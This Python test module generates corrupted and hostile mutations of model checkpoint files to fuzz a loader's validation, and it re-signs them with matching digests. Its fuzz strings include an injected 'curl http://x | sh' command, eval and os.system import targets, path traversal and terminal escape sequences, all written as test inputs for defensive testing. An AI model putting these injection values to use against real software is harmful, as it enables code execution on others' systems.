"""Checkpoints changed by a hostile or unlucky hand: whole ones of several models, and mutations of them.

A file is taken apart into its document and its tensors, changed, and put together again by this module alone, so that
what is wrong is what was meant to be. Most mutants get a digest that fits, as anybody can make one: the checks behind
that of the digest are reached as well.
"""

from __future__ import annotations

import copy
import hashlib
import json
import math
import random
import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any, TypeAlias

import numpy as np
from tests.reliability.watched import CANARY

Stored: TypeAlias = tuple[str, tuple[int, ...], bytes]
"""Type, shape and bytes of a tensor."""

_NUMPY = {
    "I64": "<i8",
    "F64": "<f8",
    "F32": "<f4",
    "I32": "<i4",
    "F16": "<f2",
    "I16": "<i2",
    "I8": "i1",
    "U8": "u1",
    "BOOL": "?",
}
"""Types that values are cast to; BF16 is written as the upper half of F32."""

NUMBERS: tuple[Any, ...] = (
    *(0, 1, -1, 2, -5, 255, 2**31, 2**63, -(2**63), 2**64, 10**18, 10**30, 100_000, 10**7),
    *(0.0, -0.0, 0.5, -0.5, 1.0, 1e-300, 1e-8, 1e8, 1e300, -1e300, math.nan, math.inf, -math.inf),
)
TEXTS: tuple[str, ...] = (
    *("", " ", "a", "nan", "1", "true", "..", "../../x", "/", "/usr", "~", "~nobody", ".", "\0", "a" * 300),
    *(
        "x" * 100_000,
        "\x1b[31m",
        "\x1b]0;x\x07",
        "a\nerror: forged",
        "\u202eabc",
        "\ud800",
        "[/foo]",
        "[red]x",
    ),
    *(
        f"./{CANARY}",
        f"/tmp/{CANARY}/x",
        f"owner/{CANARY}",
        f"{CANARY}:thing",
        f"{CANARY.replace('-', '_')}:x",
    ),
    *(f"hf://{CANARY}/x", f"http://{CANARY}.invalid/x", "os:system", "builtins:eval", "__import__('os')"),
    *(
        "evil; curl http://x | sh #",
        "walkback\n1.0",
        "cuda",
        "cuda:7",
        "cpu",
        "auto",
        "bf16",
        "real",
        "binary",
    ),
)
NAMES = (
    *(
        "gaussian-mlp",
        "gaussian-conv",
        "gaussian-unet",
        "bernoulli-mlp",
        "gaussian",
        "bernoulli",
        "mlp",
        "unet",
    ),
    *(
        "encoder-decoder",
        "plain-mlp",
        "doubling",
        "geometric",
        "constant",
        "explicit",
        "sqrt2",
        "tied",
        "std",
    ),
    *("variance", "walkback", "elbo", "digits", "swiss-roll", "mog", "mnist", "folder", "broad-gaussian"),
    *("fair-bits", "conditional", "one-hot", "walkback:gaussian-mlp", "other:gaussian-mlp"),
)
"""Of components, most of which are installed: something else is built than was trained."""


@dataclass(frozen=True, slots=True)
class Parts:
    """A checkpoint taken apart."""

    document: dict[str, Any]
    tensors: dict[str, Stored]


@dataclass(frozen=True, slots=True)
class Mutant:
    """A changed checkpoint: its number, which model it was, what was done, and the bytes."""

    number: int
    base: str
    kind: str
    content: bytes


def take_apart(content: bytes) -> Parts:
    """A whole checkpoint as document and tensors."""
    length = int.from_bytes(content[:8], "little")
    header = json.loads(content[8 : 8 + length])
    data = content[8 + length :]
    document = json.loads(header.pop("__metadata__")["walkback"])
    tensors = {
        name: (entry["dtype"], tuple(entry["shape"]), data[slice(*entry["data_offsets"])])
        for name, entry in header.items()
    }
    return Parts(document, tensors)


def header_of(parts: Parts) -> tuple[dict[str, Any], bytes]:
    """The header and the data of a file with these parts."""
    header: dict[str, Any] = {"__metadata__": {"walkback": json.dumps(parts.document, separators=(",", ":"))}}
    data = b""
    for name, (dtype, shape, content) in parts.tensors.items():
        header[name] = {
            "dtype": dtype,
            "shape": list(shape),
            "data_offsets": [len(data), len(data) + len(content)],
        }
        data += content
    return header, data


def put_together(header: Mapping[str, Any], data: bytes) -> bytes:
    """The file of a header and data."""
    text = json.dumps(header).encode()
    return len(text).to_bytes(8, "little") + text + data


# --- the document


def paths_in(value: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The key path of every value inside a document, those of lists and tables included."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in items:
        yield (*prefix, key)
        yield from paths_in(inner, (*prefix, key))


def at(document: Any, path: tuple[Any, ...]) -> Any:
    """The value of a key path."""
    for key in path:
        document = document[key]
    return document


def hostile(old: Any, rng: random.Random, others: Callable[[], Any]) -> Any:
    """Something else than `old`: of its type half of the time, so that a schema alone does not stop it."""
    if rng.random() < 0.5:
        if isinstance(old, bool):
            return not old
        if isinstance(old, int | float):
            return rng.choice(
                (old + 1, old * 2, -old, old * 1000, old * 10**9, float(old), old / 3, rng.choice(NUMBERS))
            )
        if isinstance(old, str):
            return rng.choice((rng.choice(TEXTS), rng.choice(NAMES), old + rng.choice(TEXTS), old[::-1]))
        if isinstance(old, list):
            return rng.choice(([], old * 2, old[1:], [*old, *old[:1]], old * 1000, old[::-1]))
        if isinstance(old, dict):
            return rng.choice(({}, {**old, "more": 1}, dict.fromkeys(old)))
    deep: Any = rng.choice(NUMBERS)
    for _ in range(rng.choice((1, 20, 200))):
        deep = [deep] if rng.random() < 0.5 else {"a": deep}
    simple = (None, True, False, [], {}, rng.choice(NUMBERS), rng.choice(NUMBERS), rng.choice(TEXTS))
    return rng.choice(
        (*simple, rng.choice(NAMES), deep, copy.deepcopy(others()), {"name": rng.choice(NAMES)})
    )


def edit(document: dict[str, Any], rng: random.Random) -> str:
    """Change a value, remove it, add one beside it, or rename its key; returns what was done."""
    paths = list(paths_in(document))
    if not paths:
        return "nothing"
    path = rng.choice(paths)
    table, key = at(document, path[:-1]), path[-1]
    what = rng.choice(("change",) * 6 + ("remove", "add", "rename"))
    if what == "remove":
        del table[key]
    elif what == "add" and isinstance(table, dict):
        table[rng.choice(TEXTS + NAMES)] = rng.choice((rng.choice(NUMBERS), rng.choice(TEXTS)))
    elif what == "rename" and isinstance(table, dict):
        table[rng.choice(TEXTS + NAMES)] = table.pop(key)
    else:
        table[key] = hostile(table[key], rng, lambda: at(document, rng.choice(paths)))
    return f"{what} {'.'.join(map(str, path))[:60]}"


# --- the tensors


def _values(stored: Stored) -> Any:
    dtype, shape, content = stored
    if dtype not in _NUMPY:
        return np.zeros(shape, np.float32)
    return np.frombuffer(content, _NUMPY[dtype]).reshape(shape)


def _cast(values: Any, dtype: str) -> bytes:
    with np.errstate(all="ignore"):
        if dtype == "BF16":
            return bytes((values.astype("<f4").view("<u4") >> 16).astype("<u2").tobytes())
        return bytes(values.astype(_NUMPY[dtype]).tobytes())


def _fill(tensors: dict[str, Stored], name: str, rng: random.Random) -> None:
    dtype, shape, _ = tensors[name]
    value = rng.choice(NUMBERS)
    if rng.random() < 0.5:
        values = np.full(shape, float(value))
    else:
        values = _values(tensors[name]).astype(np.float64)
        if values.size:
            values.reshape(-1)[rng.randrange(values.size)] = float(value)
    tensors[name] = (dtype, shape, _cast(values, dtype))


def _scale(tensors: dict[str, Stored], name: str, rng: random.Random) -> None:
    dtype, shape, _ = tensors[name]
    values = _values(tensors[name]).astype(np.float64) * rng.choice((-1, 0, 1e3, 1e10, 1e30, 1e-30, 3e38))
    tensors[name] = (dtype, shape, _cast(values, dtype))


def _retype(tensors: dict[str, Stored], name: str, rng: random.Random) -> None:
    dtype = rng.choice([*_NUMPY, "BF16"])
    values = _values(tensors[name]).astype(np.float64) * rng.choice((1, 1, 1e30, 1e300))
    tensors[name] = (dtype, tensors[name][1], _cast(values, dtype))


def _reshape(tensors: dict[str, Stored], name: str, rng: random.Random) -> None:
    dtype, shape, content = tensors[name]
    shapes = [(*shape, 1), (1, *shape), (math.prod(shape),), shape[::-1], (1,) * 20 + shape]
    tensors[name] = (dtype, rng.choice(shapes), content)


def _resize(tensors: dict[str, Stored], name: str, rng: random.Random) -> None:
    dtype, shape, _ = tensors[name]
    new = tuple(rng.choice((0, 1, n, n + 1, 2 * n, max(n - 1, 0))) for n in shape) or (rng.choice((0, 1, 3)),)
    values = np.resize(_values(tensors[name]), new) if math.prod(shape) else np.zeros(new)
    tensors[name] = (dtype, new, _cast(values, dtype))


def _remove(tensors: dict[str, Stored], name: str, rng: random.Random) -> None:
    del tensors[name]


def _rename(tensors: dict[str, Stored], name: str, rng: random.Random) -> None:
    part, _, rest = name.partition(".")
    names = (rest, f"prior.{rest}", f"process.{rest}", f"{part}..{rest}", f"{name}.x", *TEXTS, "__metadata__")
    tensors[rng.choice(names)] = tensors.pop(name)


def _add(tensors: dict[str, Stored], name: str, rng: random.Random) -> None:
    tensors[f"{name}{rng.choice(('x', '.x', '', '.0'))}"] = tensors[rng.choice(list(tensors))]


def _swap(tensors: dict[str, Stored], name: str, rng: random.Random) -> None:
    other = rng.choice(list(tensors))
    tensors[name], tensors[other] = tensors[other], tensors[name]


_TENSOR_EDITS = (
    _fill,
    _fill,
    _fill,
    _scale,
    _retype,
    _retype,
    _reshape,
    _resize,
    _remove,
    _rename,
    _add,
    _swap,
)


def edit_tensor(tensors: dict[str, Stored], rng: random.Random) -> str:
    """Change one tensor; returns what was done."""
    if not tensors:
        return "nothing"
    change, name = rng.choice(_TENSOR_EDITS), rng.choice(list(tensors))
    change(tensors, name, rng)
    return f"{change.__name__.strip('_')} {name[:60]}"


# --- header and bytes


def edit_header(header: dict[str, Any], rng: random.Random) -> str:
    """Change what the header says of a tensor or of the metadata, whatever the data are."""
    names = [name for name in header if name != "__metadata__"]
    if not names or rng.random() < 0.15:
        header["__metadata__"] = rng.choice(
            ({}, {"walkback": "{}"}, {"format": "pt"}, {"walkback": "[" * 9999}, {"walkback": 3}, "x", None)
        )
        return "metadata"
    entry = header[rng.choice(names)]
    what = rng.choice(("dtype", "shape", "data_offsets", "more", "none"))
    if what == "dtype":
        entry["dtype"] = rng.choice((*_NUMPY, "BF16", "F8_E4M3", "", "x" * 1000, 3, None))
    elif what in ("shape", "data_offsets"):
        values = entry[what]
        if values and rng.random() < 0.8:
            values[rng.randrange(len(values))] = rng.choice((*NUMBERS, None, "1", [1]))
        else:
            entry[what] = rng.choice(([], [2**62, 2**62, 4], [1] * 100, None, {}, "ab", [2**40, 2**40, 0]))
    elif what == "more":
        entry[rng.choice(TEXTS)] = 1
    else:
        header[rng.choice(names)] = rng.choice((None, [], {}, 1, "x"))
    return what


def damage(content: bytes, rng: random.Random) -> tuple[bytes, str]:
    """Bytes flipped, overwritten, cut off, cut out, repeated or appended; returns them and what was done."""
    data = bytearray(content)
    header = 8 + int.from_bytes(content[:8], "little")
    end = rng.choice((8, min(header, len(data)), len(data)))  # anywhere, in the header, in the length
    place = rng.randrange(max(end, 1))
    what = rng.choice(
        ("flip", "flip", "flip", "overwrite", "truncate", "append", "delete", "repeat", "length")
    )
    if what == "flip":
        data[place] ^= 1 << rng.randrange(8)
    elif what == "overwrite":
        data[place : place + 8] = rng.choice((b"\0" * 8, b"\xff" * 8, rng.randbytes(8)))
    elif what == "truncate":
        del data[rng.choice((place, len(data) - 1, header, 8, 0)) :]
    elif what == "append":
        data += rng.choice((b"\0", b"\0" * 4096, rng.randbytes(100), bytes(data)))
    elif what == "delete":
        del data[place : place + rng.randint(1, 50)]
    elif what == "repeat":
        data[place:place] = data[place : place + rng.randint(1, 50)] * rng.choice((1, 40))
    else:
        data[:8] = rng.choice((0, 1, header, 2**31, 2**62, 2**64 - 1, len(data))).to_bytes(8, "little")
    return bytes(data), what


# --- mutants

_PLACE = re.compile(rb'\\"sha256\\":\\"([0-9a-f]{64})')
"""The digest of a file: SHA-256 of all its bytes with zeros in its own place, in JSON in a string of JSON."""


def signed(content: bytes) -> bytes:
    """The file with a digest that fits, where it has a place for one."""
    found = _PLACE.search(content)
    if found is None:
        return content
    before, after = content[: found.start(1)], content[found.end(1) :]
    return before + hashlib.sha256(before + b"0" * 64 + after).hexdigest().encode() + after


def mutant_of(content: bytes, rng: random.Random) -> tuple[str, bytes]:
    """What was done, and the changed file."""
    kind = rng.choices(("document", "tensors", "both", "header", "bytes"), (40, 25, 10, 10, 15))[0]
    signs = rng.random() < (0.4 if kind == "bytes" else 0.9)
    if kind == "bytes":
        changed, what = damage(content, rng)
        return f"bytes: {what}", signed(changed) if signs else changed
    parts = take_apart(content)
    done = []
    if kind in ("document", "both"):
        done += [edit(parts.document, rng) for _ in range(rng.choice((1, 1, 1, 2, 3)))]
    if kind in ("tensors", "both"):
        done += [edit_tensor(parts.tensors, rng) for _ in range(rng.choice((1, 1, 2)))]
    if signs:
        parts.document["sha256"] = "0" * 64
    header, data = header_of(parts)
    if kind == "header":
        done.append(edit_header(header, rng))
    changed = put_together(header, data)
    return f"{kind}: {', '.join(done)}", signed(changed) if signs else changed


def mutants(bases: Mapping[str, bytes], seed: int, count: int, start: int = 0) -> Iterator[Mutant]:
    """`count` mutants from number `start` on; each follows from the whole files, the seed and its number alone."""
    names = list(bases)
    for number in range(start, start + count):
        rng = random.Random(f"{seed} {number}")
        base = names[number % len(names)]
        kind, content = mutant_of(bases[base], rng)
        yield Mutant(number, base, kind, content)
